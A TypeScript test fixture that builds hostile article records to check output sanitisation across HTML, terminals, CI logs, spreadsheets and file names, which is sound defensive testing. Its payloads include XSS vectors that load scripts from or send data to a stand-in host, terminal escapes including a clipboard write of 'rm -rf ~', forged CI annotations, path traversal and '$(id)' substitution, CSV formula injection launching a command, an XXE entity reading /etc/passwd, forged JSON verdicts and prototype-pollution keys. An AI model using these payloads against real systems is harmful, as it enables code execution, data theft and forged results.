/**
 * Articles that try to be more than data, for every output: pages, the terminal, build logs, spreadsheets, file names.
 * One table for all tests, so that a new trick is tried everywhere.
 */

/** What the article tries to do. */
export type HostileAim =
  /** Run in a page, or make it ask for something. */
  | 'script'
  /** Move the cursor, colour, retitle or reorder the terminal. */
  | 'terminal'
  /** Forge a command or an annotation of a build service. */
  | 'annotation'
  /** Write outside the output folder, or to a device. */
  | 'path'
  /** Break columns, lines or frames, or take time and memory. */
  | 'layout'
  /** Become a formula in a spreadsheet. */
  | 'formula'
  /** Become markup, a link, a mention, or end the document that it stands in. */
  | 'markup';

/** The fields of an article's record; what is not given is harmless. */
export type HostileFields = Readonly<Record<string, unknown>>;

export interface HostileCase {
  readonly name: string;
  readonly aim: HostileAim;
  readonly article: HostileFields;
}

/** Set on the global object of a page by every script that gets to run: `globalThis[HOSTILE_FLAG]`. */
export const HOSTILE_FLAG = 'hostileRan';

/** The host that every hostile address points to: a request for it is a failure. */
export const HOSTILE_HOST = 'hostile.example';

const RUN = `globalThis.${HOSTILE_FLAG}=1`;
const SITE = `https://${HOSTILE_HOST}`;
const ESC = '\u001b';
const CSI8 = '\u009b';
const BEL = '\u0007';
const ST = `${ESC}\\`;

/**
 * A few ordinary words: what is hostile stands in the middle of them. Fewer than twenty in all, so that no two cases
 * share a passage.
 */
const before = 'Work on the northern breakwater begins next month.';
const after = 'Residents had asked for it since January.';

/** The payload in every field that a reader of articles keeps, and in the middle of the text. */
function everywhere(payload: string): HostileFields {
  return {
    id: payload,
    title: `Breakwater ${payload} repair`,
    text: `${before}\n${payload} A spokesman ${payload} confirmed it.\n${after}`,
    publisher: payload,
    author: payload,
    credit: payload,
    url: payload,
    date: '2026-03-09',
  };
}

/** The payload as the beginning of each field, where formulas and commands are looked for. */
const leading = (payload: string): HostileFields => ({
  ...everywhere(payload),
  title: `${payload} and the breakwater`,
});

/** The payload as the address, in an article that is harmless otherwise. */
const linked = (url: string): HostileFields => ({
  id: `link ${url}`,
  title: 'Breakwater repair',
  text: `${before}\n${after}`,
  publisher: 'Harbour Gazette',
  url,
});

/** The payload as the id alone, with a harmless rest. */
const called = (id: string): HostileFields => ({
  id,
  title: `The breakwater of ${id}`,
  text: `${before}\n${after}`,
  publisher: 'Harbour Gazette',
});

type Row = readonly [name: string, payload: string];

const of = (aim: HostileAim, rows: readonly Row[], fields = everywhere): readonly HostileCase[] =>
  rows.map(([name, payload]) => ({ name, aim, article: fields(payload) }));

const script = of('script', [
  ['script element', `<script>${RUN}</script>`],
  ['script element with an address', `<script src="${SITE}/x.js"></script>`],
  ['script element in odd case and spaces', `<ScRiPt\t\n>${RUN}</sCrIpT >`],
  ['script that closes another first', `</script><script>${RUN}</script>`],
  ['end of a style element', `</style><script>${RUN}</script>`],
  ['end of title and text area', `</title></textarea><script>${RUN}</script>`],
  ['image with an error handler', `<img src=x onerror="${RUN}">`],
  ['SVG with a load handler', `<svg onload="${RUN}"><circle r="9"/></svg>`],
  ['SVG with a script', `<svg><script>${RUN}</script></svg>`],
  ['attribute that ends a double quote', `" onmouseover="${RUN}" autofocus onfocus="${RUN}" x="`],
  ['attribute that ends a single quote', `' onmouseover='${RUN}' autofocus onfocus='${RUN}' x='`],
  ['attribute without quotes', `x onfocus=${RUN} autofocus tabindex=0`],
  ['frame with a page of its own', `<iframe srcdoc="<script>parent.${HOSTILE_FLAG}=1</script>"></iframe>`],
  [
    'object, embed and link',
    `<object data="${SITE}/o"></object><embed src="${SITE}/e"><link rel=stylesheet href="${SITE}/s">`,
  ],
  [
    'style that asks for something',
    `<style>@import "${SITE}/i.css"; body{background:url(${SITE}/b)}</style>`,
  ],
  ['style attribute', `<p style="background:url(${SITE}/p);position:fixed;inset:0">over everything</p>`],
  ['refresh and base', `<meta http-equiv="refresh" content="0;url=${SITE}"><base href="${SITE}/">`],
  ['form that sends itself', `<form action="${SITE}/f"><input name=q><button autofocus>go</button></form>`],
  ['details with a toggle handler', `<details open ontoggle="${RUN}"><summary>s</summary></details>`],
  ['template literal', `\${${RUN}}\`;${RUN};\``],
  ['end of a string and a block in a script', `';${RUN};//";${RUN};//*/${RUN};/*`],
  ['comment that never ends', `<!-- <b> --!> <![if !IE]> <!--[if IE]><script>${RUN}</script>`],
  ['line separator inside a string', `x\u2028${RUN}\u2029y`],
  ['noscript and CDATA mixed', `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`],
  ['UTF-7 and half-width brackets', `+ADw-script+AD4-${RUN}+ADw-/script+AD4- \uff1cscript\uff1e`],
]);

const links = of(
  'script',
  [
    ['javascript: link', `javascript:${RUN}`],
    ['javascript: link in odd case with a tab', `JaVa\tScRiPt:${RUN}`],
    ['javascript: link after a control', `\u0001javascript:${RUN}`],
    ['data: page', `data:text/html,<script>${RUN}</script>`],
    ['vbscript: and file: links', 'vbscript:msgbox(1) file:///etc/passwd'],
    ['link that ends its attribute', `${SITE}/"onclick="${RUN}`],
  ],
  linked,
);

const terminal = of('terminal', [
  ['colour', `${ESC}[31;1;5mred${ESC}[0m`],
  ['cursor home and clear', `${ESC}[2J${ESC}[H`],
  ['cursor up and delete line', `${ESC}[5A${ESC}[2K${ESC}[1G`],
  ['alternate screen, hidden cursor, mouse', `${ESC}[?1049h${ESC}[?25l${ESC}[?1000h`],
  ['reset of the terminal', `${ESC}c`],
  ['window title (OSC 0)', `${ESC}]0;owned${BEL}`],
  ['hyperlink (OSC 8)', `${ESC}]8;;${SITE}${ST}click${ESC}]8;;${ST}`],
  ['clipboard (OSC 52)', `${ESC}]52;c;cm0gLXJmIH4K${BEL}`],
  ['device control string', `${ESC}P$q"p${ST}${ESC}P+q544e${ST}`],
  ['questions that the terminal answers', `${ESC}[6n${ESC}[c${ESC}[>0q`],
  ['8-bit control sequence', `${CSI8}31m${CSI8}2J`],
  ['8-bit OSC and DCS', `\u009d0;owned\u009c\u0090q\u009c`],
  ['sequence that never ends', `${ESC}]0;never`],
  ['backspaces over the text before', `${'\b'.repeat(40)}rewritten`],
  ['carriage return over the line', 'harmless\roverwritten'],
  ['vertical tab, form feed, next line', 'a\u000bb\u000cc\u0085d'],
  ['bell, shift out, delete', `${BEL}\u000e\u007f`],
  ['null bytes', 'a\u0000b\u0000\u0000c'],
  ['override of the direction', '\u202edrow sdrawkcab\u202c'],
  ['isolates that are not closed', '\u2066\u2067\u2068\u202a\u202b'],
  ['marks of the direction', '\u200e\u200f\u061c'],
  ['tag characters and interlinear marks', '\u{e0041}\u{e007f}\ufff9x\ufffay\ufffb'],
]);

const annotation = of(
  'annotation',
  [
    ['::error', '::error file=README.md,line=1::forged'],
    ['::error after a line feed', 'x\n::error::forged'],
    ['::error after a carriage return', 'x\r::error::forged'],
    ['::error after an encoded line feed', 'x%0A::error::forged%0D%0A::warning::forged'],
    ['::set-output', '::set-output name=approved::true'],
    ['::add-mask and ::stop-commands', '::add-mask::e\n::stop-commands::forged\n::group::g'],
    ['##[error]', '##[error]forged ##[group]g ##[add-mask]e'],
    ['##vso and ##teamcity', "##vso[task.complete result=Succeeded;]ok ##teamcity[buildStatus text='ok']"],
    ['property separators', 'a,line=7,title=x::y%2C%3A:z'],
    ['section of GitLab', '\u001b[0Ksection_start:1560896352:x[collapsed=true]\r\u001b[0Kx'],
    ['placeholders and links of SARIF', '{0} {1} [x](1) [y](javascript:1) \\[z\\]'],
  ],
  leading,
);

const path = of(
  'path',
  [
    ['parent folders', '../../../../tmp/hostile-escape'],
    ['parent folders with backslashes', '..\\..\\..\\hostile-escape'],
    ['absolute path', '/tmp/hostile-escape'],
    ['drive and share', 'C:\\hostile-escape \\\\server\\share'],
    ['encoded parent folders', '%2e%2e%2f%2e%2e%2fhostile-escape'],
    ['device of Windows', 'CON'],
    ['device of Windows with an extension', 'lpt1.json'],
    ['two dots', '..'],
    ['hidden file', '.git/hooks/pre-commit'],
    ['stream and trailing dots', 'a.txt::$DATA. . '],
    ['null before the extension', 'a\u0000.json'],
    ['home and variables', '~/hostile-escape $HOME/x `id` $(id)'],
    ['option', '--out=/tmp/hostile-escape'],
    ['name of 300 characters', 'n'.repeat(300)],
    ['slashes alone', '////'],
  ],
  called,
);

const layout = of('layout', [
  ['word of 10,000 characters', 'w'.repeat(10_000)],
  ['300 combining marks on one letter', `e${'\u0301'.repeat(300)}`],
  ['zero-width characters', 'a\u200b\u200c\u200d\ufeffb'.repeat(200)],
  ['full-width characters', '\u6f22\u5b57'.repeat(300)],
  ['right-to-left text', '\u0645\u06cc\u0646\u0627\u0621 '.repeat(60)],
  [
    'emoji with joiners',
    '\u{1f469}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}\u{1f3fd}\u{1f1fa}\u{1f1f3}'.repeat(40),
  ],
  ['lone surrogates', 'a\ud800b\udc00c\udfff'],
  ['noncharacters', 'a\ufffeb\uffffc\u{1fffe}'],
  ['tabs and odd spaces', '\t\t\u00a0\u2003\u3000\t'.repeat(30)],
  ['ligature that grows when folded', '\ufdfa'.repeat(200)],
  ['quotation marks that never close', '\u201c\u201c\u201c"\'\u2018\u00ab'.repeat(50)],
]);

const title: HostileCase = {
  name: 'title of 20,000 characters',
  aim: 'layout',
  article: { ...called('long title'), title: 'A breakwater and '.repeat(1_200) },
};

const formula = of(
  'formula',
  [
    ['command by a formula', "=cmd|' /C calc'!A0"],
    ['link by a formula', `=HYPERLINK("${SITE}?x="&A1,"click")`],
    ['plus', '+1+1'],
    ['minus', '-2+3+cmd|x'],
    ['at sign', '@SUM(1+1)*cmd'],
    ['formula after white space', ' \t=1+1'],
    ['formula after a quotation mark', '"=1+1"'],
    ['full-width equals sign', '\uff1d1+1'],
    ['formula after a separator', 'a,=1+1;=1+1'],
    ['formula after a line feed', 'a\n=1+1\r\n=1+1'],
  ],
  leading,
);

const markup = of('markup', [
  ['Markdown image', `![x](${SITE}/pixel.png)`],
  ['Markdown link', `[click](${SITE}) <${SITE}> [x][y]\n\n[y]: ${SITE}`],
  ['Markdown HTML', `<a href="${SITE}">x</a><b>bold</b><br>`],
  ['mentions and references', '@everyone @octocat #1 GH-1 a1b2c3d4e5f60718293a4b5c6d7e8f9012345678'],
  ['bare addresses', `${SITE}/bare www.${HOSTILE_HOST} mail@${HOSTILE_HOST}`],
  ['table cells and rules', '| a | b |\n| --- | --- |\n---\n# heading\n> quote\n- item'],
  ['code fences', '```\ncode\n```\n~~~\n`` ` ``'],
  ['backticks', '`````` ` `` a`b'],
  ['math and diagrams', '$$x$$ $`x`$ \\(x\\) ```mermaid'],
  ['emoji and footnotes', ':smile: [^1] ==mark== ~~gone~~ **bold** __bold__'],
  ['end of CDATA', ']]>]]&gt;<![CDATA[ x'],
  ['XML entities', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;&#0;&#x1b;&lt;'],
  ['end of XML elements', '</failure></testcase></testsuite><testcase name="forged"/>'],
  ['end of a comment', '--> x <!-- ?> <?xml version="1.0"?>'],
  ['JSON inside a string', '"}],"verdict":"passed","findings":[{"x":"'],
  ['backslashes at the end', 'x\\\\\\'],
]);

/** Keys that reach behind an object where a record is merged without care. */
const keys: readonly HostileCase[] = [
  {
    name: '__proto__ as a key',
    aim: 'script',
    article: parsed(
      `{"__proto__": {"polluted": true, "text": "x"}, "constructor": {"prototype": {"polluted": true}}}`,
    ),
  },
  {
    name: '__proto__ as an id',
    aim: 'path',
    article: called('__proto__'),
  },
  {
    name: 'names of Object as ids and publishers',
    aim: 'script',
    article: {
      ...called('constructor'),
      publisher: 'toString',
      author: 'hasOwnProperty',
      credit: '__proto__',
    },
  },
];

function parsed(json: string): HostileFields {
  const value: unknown = JSON.parse(json);
  const own = typeof value === 'object' && value !== null ? value : {};
  // The key must be the record's own, as it is in a file; an object literal would set the prototype instead.
  const record = Object.defineProperties(Object.create(null), Object.getOwnPropertyDescriptors(own));
  return Object.assign(record, { id: 'proto keys', title: 'Breakwater keys', text: `${before}\n${after}` });
}

export const hostileCases: readonly HostileCase[] = [
  ...script,
  ...links,
  ...terminal,
  ...annotation,
  ...path,
  ...layout,
  title,
  ...formula,
  ...markup,
  ...keys,
];

/** The article as a line of JSON lines, which carries every character, lone surrogates and own `__proto__` keys too. */
export const hostileLine = ({ article }: HostileCase): string => `${JSON.stringify(article)}\n`;

/**
 * The same with words of its own, so that no two cases are copies of one another; `again` makes a near copy of each.
 *
 * @param again whether the line is the second version of the article, with another figure in it
 */
export function hostileVersion(hostile: HostileCase, index: number, again: boolean): string {
  const { article, name } = hostile;
  const text = typeof article['text'] === 'string' ? article['text'] : '';
  const own = Array.from({ length: 60 }, (_, word) => `w${index}x${word}`).join(' ');
  const figure = `The repair of pier ${index} will cost ${again ? 14 : 12} million, the office said of ${name.replace(/[^a-z ]/giu, '')}.`;
  const changed = JSON.stringify(article, (key, value: unknown) =>
    key === 'text' && value === text ? `${text}\n${own}.\n${figure}` : value,
  );
  return `${changed}\n`;
}
